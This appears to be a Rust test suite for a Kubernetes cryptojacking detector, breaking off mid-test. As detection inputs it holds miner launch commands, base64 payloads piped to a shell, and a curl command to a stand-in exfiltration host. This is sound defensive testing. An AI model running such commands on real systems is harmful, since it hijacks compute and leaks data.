//! Behaviour of the detection engine, one test per indicator family and false-positive trap.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use crate::detect_common;

use std::collections::BTreeMap;

use base64::Engine as _;
use cryptojack::api::{CryptojackPolicySpec, PatternRule, PatternSyntax, SigmaRule};
use cryptojack::detect::{
    Category, CompiledPolicy, ContainerKind, ContainerView, EnvView, EvalContext, Finding,
    NamespaceLabels, PodView, PortView, Severity, Workload,
};
use detect_common::{default_findings, label_of, view_from_yaml};

const XMR: &str = "44K7L8BUNYUGZdZHMc2fkxRwfemfmgWgcCkmRu3CgCg5YT4FWCfS1g9p5cR1RYpWhQo8ZS76sTTyc7wgCzjYXVfv6SaZMUp";
const ETH: &str = "0x52908400098527886E0F7030069857D2E4169EE7";

fn container(name: &str, image: &str, command: &[&str], args: &[&str]) -> ContainerView {
    ContainerView {
        kind: ContainerKind::Regular,
        index: 0,
        name: name.into(),
        image: image.into(),
        command: command.iter().map(|s| s.to_string()).collect(),
        args: args.iter().map(|s| s.to_string()).collect(),
        env: vec![],
        ports: vec![],
        requests: BTreeMap::new(),
        limits: BTreeMap::new(),
        claims: Vec::new(),
        execs: Vec::new(),
    }
}

fn pod(containers: Vec<ContainerView>) -> PodView {
    PodView {
        kind: "Pod".into(),
        name: "p".into(),
        namespace: Some("default".into()),
        spec_path: cryptojack::detect::FieldPath::fields(&["spec"]),
        containers,
        ..Default::default()
    }
}

fn run(c: ContainerView) -> Vec<Finding> {
    CompiledPolicy::builtin_default().evaluate_offline(&pod(vec![c]))
}

fn rules(f: &[Finding]) -> Vec<&str> {
    f.iter().map(|f| f.rule.as_str()).collect()
}

fn max_severity(f: &[Finding]) -> Option<Severity> {
    f.iter().map(|f| f.severity).max()
}

// ---------------------------------------------------------------- miner binaries

#[test]
fn every_required_miner_binary_is_detected_as_the_program() {
    for name in [
        "xmrig",
        "xmrig-notls",
        "xmr-stak",
        "minerd",
        "cpuminer",
        "cpuminer-multi",
        "cpuminer-opt",
        "ccminer",
        "ethminer",
        "cgminer",
        "bfgminer",
        "sgminer",
        "claymore",
        "nbminer",
        "t-rex",
        "trex",
        "gminer",
        "lolMiner",
        "PhoenixMiner",
        "teamredminer",
        "nanominer",
        "bminer",
        "wildrig",
        "SRBMiner-MULTI",
        "kdevtmpfsi",
        "kinsing",
    ] {
        let f = run(container(
            "c",
            "ubuntu:22.04",
            &[&format!("/opt/bin/{name}")],
            &["--help"],
        ));
        let want = format!("builtin/miner-binary/{}", name.to_ascii_lowercase());
        let hit = f
            .iter()
            .find(|f| f.rule == want)
            .unwrap_or_else(|| panic!("{name}: {f:#?}"));
        assert_eq!(hit.severity, Severity::Critical, "{name}");
        assert_eq!(hit.category, Category::MinerBinary);
        assert_eq!(hit.field, "spec.containers[0].command[0]");
        assert_eq!(hit.container.as_deref(), Some("c"));
    }
}

#[test]
fn versioned_and_wrapped_program_names() {
    for argv in [
        vec!["./xmrig-6.21.0", "-c", "config.json"],
        vec!["nohup", "nice", "-n", "19", "/tmp/t-rex.exe"],
        vec!["env", "A=1", "timeout", "1h", "cpuminer-sse2", "-t", "1"],
        vec!["busybox", "setsid", "ccminer"],
    ] {
        let f = run(container("c", "alpine", &argv, &[]));
        assert_eq!(
            max_severity(&f),
            Some(Severity::Critical),
            "{argv:?}: {f:#?}"
        );
    }
}

#[test]
fn miner_names_are_not_substrings() {
    for (image, argv) in [
        (
            "quay.io/minio/minio:latest",
            vec!["minio", "server", "/data"],
        ),
        ("hexparrot/mineos:latest", vec!["mineos", "start"]),
        ("itzg/minecraft-server:java21", vec!["/start"]),
        ("ghcr.io/example/trexler:1", vec!["trexler", "--xmrigger"]),
        (
            "ghcr.io/example/api:1",
            vec!["python", "app.py", "--name", "xmrig"],
        ),
        (
            "trexcisco/trex:v3.04",
            vec!["./t-rex-64", "-i", "--cfg", "/etc/trex_cfg.yaml"],
        ),
    ] {
        let f = run(container("c", image, &argv, &[]));
        assert_eq!(label_of(&f), "benign", "{image} {argv:?}: {f:#?}");
        assert!(f.is_empty(), "{image}: {f:#?}");
    }
}

#[test]
fn miner_name_in_a_url_or_path_counts() {
    let f = run(container(
        "c",
        "alpine",
        &["wget"],
        &[
            "-q",
            "https://example.invalid/releases/xmrig-6.21.0-linux-x64.tar.gz",
        ],
    ));
    let hit = f
        .iter()
        .find(|f| f.rule == "builtin/miner-binary/xmrig")
        .unwrap();
    assert_eq!(
        hit.severity,
        Severity::High,
        "a download is high, running it is critical"
    );
    assert_eq!(hit.field, "spec.containers[0].args[1]");
    let f = run(container(
        "c",
        "alpine",
        &["cp", "/mnt/bin/kdevtmpfsi", "/tmp/"],
        &[],
    ));
    assert!(rules(&f).contains(&"builtin/miner-binary/kdevtmpfsi"));
}

// ---------------------------------------------------------------- images

#[test]
fn miner_image_repository_components() {
    for image in [
        "registry.example.com/tools/xmrig:6.21.0",
        "docker.io/someone/cpuminer-opt:latest",
        "ghcr.io/a/b/t-rex@sha256:0123",
        "localhost:5000/xmrig-proxy",
    ] {
        let f = run(container("c", image, &[], &[]));
        let hit = f
            .iter()
            .find(|f| f.category == Category::MinerImage)
            .unwrap_or_else(|| panic!("{image}"));
        assert_eq!(hit.severity, Severity::Critical);
        assert_eq!(hit.field, "spec.containers[0].image");
        assert_eq!(hit.evidence, image);
    }
    // the registry host and the tag alone do not count
    for image in [
        "xmrig.example.com/app/web:1.0",
        "nginx:xmrig",
        "ghcr.io/acme/api:t-rex",
    ] {
        assert!(run(container("c", image, &[], &[])).is_empty(), "{image}");
    }
}

#[test]
fn known_ioc_images() {
    for (image, rule) in [
        ("metal3d/xmrig:latest", "builtin/known-ioc/metal3d/xmrig"),
        (
            "docker.io/lukaszgryglicki/phoenixminer:6.2c",
            "builtin/known-ioc/lukaszgryglicki/phoenixminer",
        ),
        (
            "kannix/monero-miner",
            "builtin/known-ioc/kannix/monero-miner",
        ),
        (
            "index.docker.io/minerboy/anything:1",
            "builtin/known-ioc/minerboy/*",
        ),
        (
            "docker123321/tomcat:latest",
            "builtin/known-ioc/docker123321/*",
        ),
    ] {
        let f = run(container("c", image, &[], &[]));
        let hit = f
            .iter()
            .find(|f| f.rule == rule)
            .unwrap_or_else(|| panic!("{image}: {f:#?}"));
        assert_eq!(hit.category, Category::KnownIoc);
        assert_eq!(hit.severity, Severity::Critical);
    }
    // a Docker Hub account list does not apply to other registries
    assert!(run(container("c", "ghcr.io/minerboy/app:1", &[], &[])).is_empty());
}

// ---------------------------------------------------------------- pools

#[test]
fn stratum_schemes() {
    for url in [
        "stratum+tcp://10.1.2.3:3333",
        "stratum+ssl://example.net:443",
        "stratum+udp://h.example:1",
        "stratum1+tcp://a.example:4444",
        "stratum2+ssl://b.example:5555",
        "STRATUM+TCP://c.example:3333",
    ] {
        let f = run(container(
            "c",
            "alpine",
            &["/app/run"],
            &["--endpoint", url],
        ));
        let hit = f
            .iter()
            .find(|f| f.rule == "builtin/pool/stratum-url")
            .unwrap_or_else(|| panic!("{url}"));
        assert_eq!(hit.severity, Severity::Critical);
        assert_eq!(hit.field, "spec.containers[0].args[1]");
    }
}

#[test]
fn known_pool_domains_with_boundaries() {
    for host in [
        "pool.supportxmr.com:3333",
        "xmr.2miners.com:2222",
        "eu1.ethermine.org:4444",
        "gulf.moneroocean.stream:10128",
        "rx.unmineable.com:3333",
        "de.monero.herominers.com:1111",
        "mine.c3pool.com:13333",
        "xmr-eu1.nanopool.org:14433",
        "pool.hashvault.pro:443",
        "randomxmonero.auto.nicehash.com:9200",
        "xmrpool.eu:9999",
        "stratum.antpool.com:3333",
    ] {
        let f = run(container(
            "c",
            "alpine",
            &["/app/agent"],
            &["--target", host],
        ));
        let hit = f
            .iter()
            .find(|f| f.rule == "builtin/pool/known-pool")
            .unwrap_or_else(|| panic!("{host}: {f:#?}"));
        assert_eq!(hit.severity, Severity::Critical, "{host}");
    }
    // a domain mention without a port or URL is high, not critical
    let f = run(container(
        "c",
        "alpine",
        &["echo", "see supportxmr.com"],
        &[],
    ));
    assert_eq!(
        f.iter()
            .find(|f| f.category == Category::Pool)
            .map(|f| f.severity),
        Some(Severity::High)
    );
    // no domain boundary, no finding
    for s in [
        "notsupportxmr.com",
        "supportxmr.community",
        "ethermine.orgx",
    ] {
        assert!(
            run(container("c", "alpine", &["echo", s], &[])).is_empty(),
            "{s}"
        );
    }
}

#[test]
fn host_port_pool_arguments_need_a_miner_like_command_line() {
    // -o host:port next to miner options
    for args in [
        vec!["-o", "198.51.100.7:3333", "--donate-level=1"],
        vec!["--url=198.51.100.7:3333", "--randomx-1gb-pages"],
        vec!["-pool", "pool.example.net:8008", "-wal", "x"],
        vec!["-o", "tcp://pool.example.net:80", "-a", "rx/0"],
    ] {
        let f = run(container("c", "alpine", &["/usr/bin/kswapd"], &args));
        let hit = f
            .iter()
            .find(|f| f.rule == "builtin/pool/pool-argument")
            .unwrap_or_else(|| panic!("{args:?}: {f:#?}"));
        assert_eq!(hit.severity, Severity::High);
    }
    // the same host:port on an ordinary command line is not a pool
    for argv in [
        vec!["ssh", "-o", "ProxyJump=bastion.example.com:22", "host"],
        vec!["curl", "-o", "out.json", "api.example.com:8080/x"],
        vec!["/app/client", "--url", "backend.example.svc:3333"],
    ] {
        let f = run(container("c", "alpine", &argv, &[]));
        assert_eq!(label_of(&f), "benign", "{argv:?}: {f:#?}");
    }
}

#[test]
fn gcc_output_file_is_not_a_pool() {
    let f = run(container(
        "c",
        "gcc:13",
        &["sh", "-c"],
        &["gcc -O2 -c pool.c -o pool.o && gcc -o server main.c pool.o"],
    ));
    assert!(f.is_empty(), "{f:#?}");
    let f = run(container(
        "c",
        "gcc:13",
        &["gcc", "-c", "pool.c", "-o", "pool.o"],
        &[],
    ));
    assert!(f.is_empty(), "{f:#?}");
}

// ---------------------------------------------------------------- flags

#[test]
fn miner_only_flags() {
    for (arg, rule) in [
        ("--donate-level=1", "builtin/miner-flags/donate-level"),
        ("--cpu-priority", "builtin/miner-flags/cpu-priority"),
        (
            "--randomx-1gb-pages",
            "builtin/miner-flags/randomx-1gb-pages",
        ),
        ("--nicehash", "builtin/miner-flags/nicehash"),
        ("--max-cpu-usage=80", "builtin/miner-flags/max-cpu-usage"),
        ("-wal", "builtin/miner-flags/wal"),
    ] {
        let f = run(container("c", "alpine", &["/bin/worker"], &[arg, "5"]));
        let hit = f
            .iter()
            .find(|f| f.rule == rule)
            .unwrap_or_else(|| panic!("{arg}: {f:#?}"));
        assert_eq!(
            (hit.category, hit.severity),
            (Category::MinerFlags, Severity::High)
        );
        assert_eq!(hit.field, "spec.containers[0].args[0]");
    }
}

#[test]
fn algorithm_and_coin_values_decide() {
    for args in [
        ["--algo", "rx/0"],
        ["-a", "cryptonight"],
        ["--algo", "kawpow"],
        ["-a", "ETHASH"],
        ["--algorithm", "etchash"],
        ["-a", "randomx"],
    ] {
        let f = run(container("c", "alpine", &["/bin/worker"], &args));
        assert!(
            rules(&f).contains(&"builtin/miner-flags/algorithm"),
            "{args:?}"
        );
    }
    let f = run(container("c", "alpine", &["/bin/worker"], &["--algo=rx/0"]));
    assert!(rules(&f).contains(&"builtin/miner-flags/algorithm"));
    for args in [["--coin", "monero"], ["--coin", "xmr"]] {
        let f = run(container("c", "alpine", &["/bin/worker"], &args));
        assert!(rules(&f).contains(&"builtin/miner-flags/coin"), "{args:?}");
    }
    // reinforcement-learning algorithms and trading symbols are not mining
    for args in [
        vec!["--algo", "ppo"],
        vec!["-a", "sac"],
        vec!["--coin", "btc"],
        vec!["-a", "/tmp"],
    ] {
        let f = run(container(
            "c",
            "python:3.12",
            &["python", "-m", "trainer"],
            &args,
        ));
        assert!(f.is_empty(), "{args:?}: {f:#?}");
    }
}

// ---------------------------------------------------------------- wallets

#[test]
fn monero_addresses_count_anywhere_and_are_shortened() {
    let mut c = container("c", "alpine", &["/app/run"], &[]);
    c.env = vec![
        EnvView {
            index: 0,
            name: "LOG".into(),
            value: "info".into(),
        },
        EnvView {
            index: 1,
            name: "PAYOUT".into(),
            value: XMR.into(),
        },
    ];
    // alone in an env value (a donation address) it is at most medium
    let f = run(c.clone());
    let hit = f
        .iter()
        .find(|f| f.rule == "builtin/wallet/monero")
        .unwrap();
    assert_eq!(hit.field, "spec.containers[0].env[1].value");
    assert_eq!(hit.evidence, "44K7L8BU…MUp");
    assert_eq!(hit.severity, Severity::Medium);
    // next to another signal it is high
    c.command = vec!["/app/run".into(), "--donate-level".into(), "1".into()];
    let f = run(c);
    let hit = f
        .iter()
        .find(|f| f.rule == "builtin/wallet/monero")
        .unwrap();
    assert_eq!(hit.severity, Severity::High);
    // as an argument it is high on its own
    let f = run(container("c", "alpine", &["/app/run"], &[XMR]));
    assert_eq!(max_severity(&f), Some(Severity::High));
}

#[test]
fn other_wallet_shapes_need_pool_context() {
    // an Ethereum address in a dApp's config is not a finding
    let mut c = container("c", "node:20", &["node", "server.js"], &[]);
    c.env = vec![EnvView {
        index: 0,
        name: "CONTRACT".into(),
        value: ETH.into(),
    }];
    assert!(run(c.clone()).is_empty());
    // as the value of a pool user option it is
    let f = run(container(
        "c",
        "alpine",
        &["/bin/w"],
        &["-u", &format!("{ETH}.rig1")],
    ));
    let hit = f
        .iter()
        .find(|f| f.rule == "builtin/wallet/ethereum")
        .unwrap();
    assert_eq!(hit.field, "spec.containers[0].args[1]");
    assert!(
        hit.evidence.contains("0x529084…EE7.rig1"),
        "{}",
        hit.evidence
    );
    // next to pool evidence it is, too
    c.env.push(EnvView {
        index: 1,
        name: "POOL".into(),
        value: "stratum+tcp://etc.2miners.com:1010".into(),
    });
    assert!(rules(&run(c)).contains(&"builtin/wallet/ethereum"));
    // Ravencoin and Bitcoin addresses as --user values: a pool login (wallet.worker) or
    // next to a pool counts, a bare address (an exporter's --address) does not
    for w in [
        "RXLdrSHoatFf8hvERYHfcAV1Bchtq65JZu",
        "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2",
    ] {
        let f = run(container(
            "c",
            "alpine",
            &["/bin/w"],
            &[&format!("--user={w}.worker1")],
        ));
        assert!(f.iter().any(|f| f.category == Category::Wallet), "{w}");
        let f = run(container(
            "c",
            "alpine",
            &["/bin/w"],
            &[&format!("--address={w}")],
        ));
        assert!(f.is_empty(), "{w}: {f:#?}");
        let f = run(container(
            "c",
            "alpine",
            &["/bin/w"],
            &[
                &format!("--user={w}"),
                "-o",
                "stratum+tcp://rvn.example.org:3333",
            ],
        ));
        assert!(f.iter().any(|f| f.category == Category::Wallet), "{w}");
    }
}

// ---------------------------------------------------------------- ports

#[test]
fn pool_ports_alone_are_low() {
    for (image, port) in [
        ("selenium/hub:4.20", 4444),
        ("mher/flower:2.0", 5555),
        ("ghcr.io/a/b:1", 3333),
    ] {
        let mut c = container("c", image, &[], &[]);
        c.ports = vec![
            PortView {
                index: 0,
                container_port: 8080,
                protocol: None,
                name: None,
            },
            PortView {
                index: 1,
                container_port: port,
                protocol: None,
                name: None,
            },
        ];
        let f = run(c);
        assert_eq!(f.len(), 1, "{f:#?}");
        assert_eq!(f[0].category, Category::Port);
        assert_eq!(f[0].severity, Severity::Low);
        assert_eq!(f[0].field, "spec.containers[0].ports[1].containerPort");
        assert_eq!(label_of(&f), "benign");
    }
}

// ---------------------------------------------------------------- blockchain nodes

#[test]
fn blockchain_nodes_are_not_miners() {
    let f = run(container(
        "geth",
        "ethereum/client-go:v1.14.0",
        &[],
        &["--http", "--syncmode=snap", "--datadir=/data"],
    ));
    assert!(f.is_empty(), "{f:#?}");
    let f = run(container(
        "m",
        "ghcr.io/sethforprivacy/simple-monerod:latest",
        &["monerod"],
        &["--rpc-bind-ip=0.0.0.0", "--prune-blockchain"],
    ));
    assert!(f.is_empty(), "{f:#?}");
    let f = run(container(
        "m",
        "ghcr.io/sethforprivacy/simple-monerod:latest",
        &["monerod"],
        &["--start-mining", XMR, "--mining-threads", "4"],
    ));
    assert_eq!(label_of(&f), "miner");
    assert!(rules(&f).contains(&"builtin/miner-flags/start-mining"));
}

// ---------------------------------------------------------------- obfuscation

#[test]
fn shell_scripts_are_split_into_words() {
    for script in [
        "cd /tmp && ./xmrig -c cfg.json",
        "apt-get update; wget -q x; chmod +x xmrig; ./xmrig",
        "true || exec /opt/xmrig >/dev/null 2>&1 &",
        "cat cfg | '/opt/x m/xmrig' --config=-",
        "if [ -x ./xmrig ]; then nohup \"./xmrig\" & fi",
    ] {
        let f = run(container("c", "alpine", &["/bin/sh", "-c", script], &[]));
        let hit = f
            .iter()
            .find(|f| f.rule == "builtin/miner-binary/xmrig" && f.severity == Severity::Critical);
        let hit = hit.unwrap_or_else(|| panic!("{script}: {f:#?}"));
        assert_eq!(hit.field, "spec.containers[0].command[2]");
    }
    // command: [bash, -c] with the script in args
    let f = run(container(
        "c",
        "alpine",
        &["bash", "-ec"],
        &["sleep 1 && ./t-rex -a kawpow"],
    ));
    assert_eq!(
        f.iter()
            .find(|f| f.rule == "builtin/miner-binary/t-rex")
            .map(|f| f.field.as_str()),
        Some("spec.containers[0].args[0]")
    );
}

#[test]
fn base64_payloads_are_decoded_and_scanned() {
    let payload = base64::engine::general_purpose::STANDARD.encode(format!(
        "/tmp/.cache/kworker -o 198.51.100.9:3333 -u {XMR} --donate-level 0"
    ));
    for script in [
        format!("echo {payload} | base64 -d | sh"),
        format!("echo \"{payload}\" | base64 --decode | bash"),
        format!("printf %s {payload}|base64 -d>/tmp/i.sh;sh /tmp/i.sh"),
        format!("bash -c \"$(echo {payload} | base64 -d)\""),
    ] {
        let f = run(container("c", "alpine", &["sh", "-c", &script], &[]));
        assert_eq!(label_of(&f), "miner", "{script}: {f:#?}");
        let w = f
            .iter()
            .find(|f| f.rule == "builtin/wallet/monero")
            .unwrap();
        assert!(w.evidence.starts_with("decoded: "), "{}", w.evidence);
        assert_eq!(w.field, "spec.containers[0].command[2]");
        assert!(
            rules(&f).contains(&"builtin/pool/pool-argument"),
            "{script}"
        );
    }
}

#[test]
fn oversized_or_binary_base64_is_ignored_without_panic() {
    let big = "QUFB".repeat(40_000); // 160 KB of "AAA..."
    let f = run(container(
        "c",
        "alpine",
        &["sh", "-c", &format!("echo {big} | base64 -d | sh")],
        &[],
    ));
    assert!(f.is_empty());
    let bin = base64::engine::general_purpose::STANDARD
        .encode([0u8, 1, 2, 3, 255, 254, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16]);
    assert!(
        run(container(
            "c",
            "alpine",
            &["sh", "-c", &format!("echo {bin} | base64 -d > /x")],
            &[]
        ))
        .is_empty()
    );
}

#[test]
fn env_literal_values_are_scanned() {
    let mut c = container("c", "ghcr.io/example/agent:2", &["/app/agent"], &[]);
    c.env = vec![
        EnvView {
            index: 0,
            name: "THREADS".into(),
            value: "4".into(),
        },
        EnvView {
            index: 2,
            name: "POOL_URL".into(),
            value: "stratum+ssl://xmr.example.org:12222".into(),
        },
        EnvView {
            index: 3,
            name: "EXTRA".into(),
            value: "--donate-level 1 --cpu-priority 2".into(),
        },
    ];
    let f = run(c);
    let pool = f
        .iter()
        .find(|f| f.rule == "builtin/pool/stratum-url")
        .unwrap();
    assert_eq!(pool.field, "spec.containers[0].env[2].value");
    assert_eq!(pool.evidence, "stratum+ssl://xmr.example.org:12222");
    assert!(
        f.iter()
            .any(|f| f.rule == "builtin/miner-flags/donate-level"
                && f.field == "spec.containers[0].env[3].value")
    );
    // an env value that merely names a miner is data, not a program run
    let mut c = container("c", "alpine", &["/app/run"], &[]);
    c.env = vec![EnvView {
        index: 0,
        name: "MASCOT".into(),
        value: "trex".into(),
    }];
    assert!(run(c).is_empty());
}

// ---------------------------------------------------------------- field paths and evidence

#[test]
fn field_paths_follow_the_manifest() {
    let yaml = format!(
        r#"
apiVersion: apps/v1
kind: Deployment
metadata: {{name: dep, namespace: team}}
spec:
  selector: {{matchLabels: {{app: d}}}}
  template:
    metadata: {{labels: {{app: d}}}}
    spec:
      initContainers:
      - name: init
        image: busybox
        command: ["sh", "-c", "./xmrig"]
      containers:
      - name: a
        image: nginx
      - name: b
        image: alpine
        command: ["/w"]
        args: ["x", "y", "z", "--donate-level=2"]
        env:
        - {{name: A, value: "1"}}
        - {{name: B, value: "{XMR}"}}
"#
    );
    let f = CompiledPolicy::builtin_default().evaluate_offline(&view_from_yaml(&yaml));
    let field = |rule: &str| {
        f.iter()
            .find(|f| f.rule == rule)
            .map(|f| (f.field.as_str(), f.container.as_deref()))
    };
    assert_eq!(
        field("builtin/miner-binary/xmrig"),
        Some((
            "spec.template.spec.initContainers[0].command[2]",
            Some("init")
        ))
    );
    assert_eq!(
        field("builtin/miner-flags/donate-level"),
        Some(("spec.template.spec.containers[1].args[3]", Some("b")))
    );
    assert_eq!(
        field("builtin/wallet/monero"),
        Some(("spec.template.spec.containers[1].env[1].value", Some("b")))
    );
}

#[test]
fn evidence_is_short_and_wallets_shortened() {
    let long = format!(
        "{} && ./xmrig -o stratum+tcp://x.example:3333 -u {XMR} {}",
        "echo hello ".repeat(30),
        "--threads 2 ".repeat(30)
    );
    let f = run(container("c", "alpine", &["sh", "-c", &long], &[]));
    assert!(!f.is_empty());
    for x in &f {
        assert!(x.evidence.chars().count() <= 120, "{}", x.evidence);
        assert!(!x.evidence.contains(XMR));
    }
    assert!(f.iter().any(|x| x.evidence.contains("44K7L8BU…MUp")));
}

// ---------------------------------------------------------------- GPU

fn gpu_pod(
    labels: &[(&str, &str)],
    requests: &[(usize, &str, &str)],
    limits: &[(usize, &str, &str)],
) -> PodView {
    let mut a = container("a", "nvidia/cuda:12.2.0-base", &["python", "serve.py"], &[]);
    let mut b = container(
        "b",
        "nvidia/cuda:12.2.0-base",
        &["python", "worker.py"],
        &[],
    );
    b.index = 1;
    for (i, r, q) in requests {
        [&mut a, &mut b][*i]
            .requests
            .insert(r.to_string(), q.to_string());
    }
    for (i, r, q) in limits {
        [&mut a, &mut b][*i]
            .limits
            .insert(r.to_string(), q.to_string());
    }
    let mut p = pod(vec![a, b]);
    p.labels = labels
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    p
}

#[test]
fn unapproved_gpu_gets_one_finding() {
    let policy = CompiledPolicy::builtin_default();
    let f = policy.evaluate_offline(&gpu_pod(
        &[],
        &[(0, "nvidia.com/gpu", "1"), (1, "nvidia.com/gpu", "4")],
        &[(1, "nvidia.com/gpu", "4")],
    ));
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!(f[0].rule, "builtin/gpu/unapproved");
    assert_eq!(
        (f[0].category, f[0].severity),
        (Category::GpuUnapproved, Severity::High)
    );
    assert_eq!(
        f[0].field,
        "spec.containers[0].resources.requests[\"nvidia.com/gpu\"]"
    );
    assert_eq!(label_of(&f), "gpu");
    // the finding names the container whose resources request the GPU (its field points there)
    assert_eq!(f[0].container.as_deref(), Some("a"));
    // limits only, another configured resource
    let f = policy.evaluate_offline(&gpu_pod(&[], &[], &[(1, "gpu.intel.com/i915", "1")]));
    assert_eq!(f.len(), 1);
    assert_eq!(
        f[0].field,
        "spec.containers[1].resources.limits[\"gpu.intel.com/i915\"]"
    );
    assert_eq!(f[0].container.as_deref(), Some("b"));
    // approved, zero quantity, or an unconfigured resource: nothing
    let approved = [("cryptojack.dev/gpu-approved", "true")];
    assert!(
        policy
            .evaluate_offline(&gpu_pod(&approved, &[(0, "nvidia.com/gpu", "8")], &[]))
            .is_empty()
    );
    assert!(
        policy
            .evaluate_offline(&gpu_pod(
                &[],
                &[(0, "nvidia.com/gpu", "0")],
                &[(0, "nvidia.com/gpu", "0")]
            ))
            .is_empty()
    );
    assert!(
        policy
            .evaluate_offline(&gpu_pod(&[], &[(0, "example.com/fpga", "1")], &[]))
            .is_empty()
    );
    // the wrong approval value does not approve
    assert_eq!(
        policy
            .evaluate_offline(&gpu_pod(
                &[("cryptojack.dev/gpu-approved", "yes")],
                &[(0, "amd.com/gpu", "1")],
                &[]
            ))
            .len(),
        1
    );
}

#[test]
fn gpu_rule_is_configurable() {
    let mut spec = CryptojackPolicySpec::default();
    spec.detect.gpu.resources = vec!["example.com/fpga".into()];
    spec.detect.gpu.approval_label = "team.example/approved".into();
    spec.detect.gpu.approval_value = "yes".into();
    let p = CompiledPolicy::compile("p", &spec).unwrap();
    assert_eq!(
        p.evaluate_offline(&gpu_pod(&[], &[(0, "example.com/fpga", "2")], &[]))
            .len(),
        1
    );
    assert!(
        p.evaluate_offline(&gpu_pod(&[], &[(0, "nvidia.com/gpu", "2")], &[]))
            .is_empty()
    );
    assert!(
        p.evaluate_offline(&gpu_pod(
            &[("team.example/approved", "yes")],
            &[(0, "example.com/fpga", "2")],
            &[]
        ))
        .is_empty()
    );
    spec.detect.gpu.enabled = false;
    let p = CompiledPolicy::compile("p", &spec).unwrap();
    assert!(
        p.evaluate_offline(&gpu_pod(&[], &[(0, "example.com/fpga", "2")], &[]))
            .is_empty()
    );
}

// ---------------------------------------------------------------- node signals

fn node_pod(yaml_spec_extra: &str) -> PodView {
    view_from_yaml(&format!(
        "apiVersion: v1\nkind: Pod\nmetadata: {{name: placed, namespace: team}}\nspec:\n  containers:\n  - name: c\n    image: nginx\n{yaml_spec_extra}"
    ))
}

#[test]
fn node_signals() {
    let mut spec = CryptojackPolicySpec::default();
    spec.detect.node.allowed_regions = vec!["eu-west-1".into()];
    let p = CompiledPolicy::compile("p", &spec).unwrap();

    let f = p.evaluate_offline(&node_pod(
        "  nodeSelector:\n    node.kubernetes.io/instance-type: p3.8xlarge\n",
    ));
    assert_eq!(rules(&f), ["builtin/node/gpu-instance-type"]);
    assert_eq!(
        (f[0].category, f[0].severity, f[0].container.as_deref()),
        (Category::Node, Severity::Medium, None)
    );
    assert_eq!(
        f[0].field,
        "spec.nodeSelector[\"node.kubernetes.io/instance-type\"]"
    );

    let aff = "  affinity:\n    nodeAffinity:\n      requiredDuringSchedulingIgnoredDuringExecution:\n        nodeSelectorTerms:\n        - matchExpressions:\n          - {key: beta.kubernetes.io/instance-type, operator: In, values: [m5.large, g5.xlarge]}\n          - {key: topology.kubernetes.io/region, operator: In, values: [ap-southeast-2]}\n";
    let f = p.evaluate_offline(&node_pod(aff));
    assert_eq!(
        rules(&f),
        ["builtin/node/gpu-instance-type", "builtin/node/region"]
    );
    assert_eq!(f[0].field, "spec.affinity.nodeAffinity");

    for spot in [
        "  nodeSelector:\n    karpenter.sh/capacity-type: spot\n",
        "  nodeSelector:\n    eks.amazonaws.com/capacityType: SPOT\n",
        "  nodeSelector:\n    cloud.google.com/gke-spot: \"true\"\n",
        "  tolerations:\n  - {key: kubernetes.azure.com/scalesetpriority, operator: Equal, value: spot, effect: NoSchedule}\n",
    ] {
        let f = p.evaluate_offline(&node_pod(spot));
        assert_eq!(rules(&f), ["builtin/node/spot"], "{spot}");
        assert_eq!(f[0].severity, Severity::Low);
        assert_eq!(label_of(&f), "benign");
    }
    // ordinary placement: nothing
    let f = p.evaluate_offline(&node_pod("  nodeSelector:\n    node.kubernetes.io/instance-type: m5.large\n    topology.kubernetes.io/region: eu-west-1\n    karpenter.sh/capacity-type: on-demand\n"));
    assert!(f.is_empty(), "{f:#?}");
    // flagSpot off, no allowed regions: spot and regions are not signals
    spec.detect.node.flag_spot = false;
    spec.detect.node.allowed_regions.clear();
    let p = CompiledPolicy::compile("p", &spec).unwrap();
    assert!(p.evaluate_offline(&node_pod("  nodeSelector:\n    karpenter.sh/capacity-type: spot\n    topology.kubernetes.io/region: mars-1\n")).is_empty());
}

// ---------------------------------------------------------------- policy patterns

fn pat(pattern: &str, syntax: PatternSyntax, severity: Severity) -> PatternRule {
    PatternRule {
        id: None,
        pattern: pattern.into(),
        syntax,
        severity,
        description: None,
    }
}

#[test]
fn policy_image_patterns() {
    let mut spec = CryptojackPolicySpec::default();
    spec.detect.builtin = false;
    spec.detect.images = vec![
        pat("EvilCorp/", PatternSyntax::Substring, Severity::Critical),
        pat(
            "*.internal.example/*:latest",
            PatternSyntax::Glob,
            Severity::Medium,
        ),
        pat(
            r"^quay\.io/[a-z]+/miner-\d+",
            PatternSyntax::Regex,
            Severity::High,
        ),
    ];
    let p = CompiledPolicy::compile("corp", &spec).unwrap();
    let f = p.evaluate_offline(&pod(vec![container(
        "c",
        "ghcr.io/evilcorp/tool:1",
        &[],
        &[],
    )]));
    assert_eq!(rules(&f), ["policy/corp/images[0]"]);
    assert_eq!(
        (f[0].severity, f[0].category),
        (Severity::Critical, Category::MinerImage)
    );
    assert_eq!(f[0].field, "spec.containers[0].image");
    let f = p.evaluate_offline(&pod(vec![container(
        "c",
        "reg.INTERNAL.example/app:latest",
        &[],
        &[],
    )]));
    assert_eq!(rules(&f), ["policy/corp/images[1]"]);
    assert!(
        p.evaluate_offline(&pod(vec![container(
            "c",
            "reg.internal.example/app:1.0",
            &[],
            &[]
        )]))
        .is_empty(),
        "glob is whole-value"
    );
    let f = p.evaluate_offline(&pod(vec![container("c", "quay.io/x/miner-2:1", &[], &[])]));
    assert_eq!(rules(&f), ["policy/corp/images[2]"]);
    // commands are not matched by image patterns
    assert!(
        p.evaluate_offline(&pod(vec![container("c", "alpine", &["evilcorp/"], &[])]))
            .is_empty()
    );
}

#[test]
fn policy_command_patterns_see_every_command_string() {
    let mut spec = CryptojackPolicySpec::default();
    spec.detect.builtin = false;
    spec.detect.commands = vec![
        PatternRule {
            id: Some("corp/exfil".into()),
            ..pat(
                "exfil.example.net",
                PatternSyntax::Substring,
                Severity::High,
            )
        },
        pat(r"--threads=\d{3,}", PatternSyntax::Regex, Severity::Medium),
    ];
    let p = CompiledPolicy::compile("corp", &spec).unwrap();
    let payload =
        base64::engine::general_purpose::STANDARD.encode("curl -s https://EXFIL.example.net/u");
    let mut c = container(
        "c",
        "alpine",
